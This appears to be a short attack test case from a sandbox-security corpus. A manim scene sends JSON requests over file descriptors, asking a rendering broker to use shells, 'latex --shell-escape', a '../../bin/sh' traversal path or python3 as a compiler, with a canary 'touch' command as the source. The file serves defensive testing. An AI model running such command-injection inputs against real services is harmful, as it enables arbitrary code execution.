# ATTACK: exec
# SUCCESS: the broker is asked for a compiler that is a command
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import os, json
        for c in ("sh", "/bin/sh", "latex --shell-escape", "../../bin/sh", "python3"):
            q = {"question": {"formula": {"compilers": [c], "output_format": ".dvi", "source": "touch @CANARY@/pwned"}}}
            os.write(3, json.dumps(q).encode() + b"\n")
            print(os.read(4, 4000))
        self.add(Dot()); self.wait(0.1)
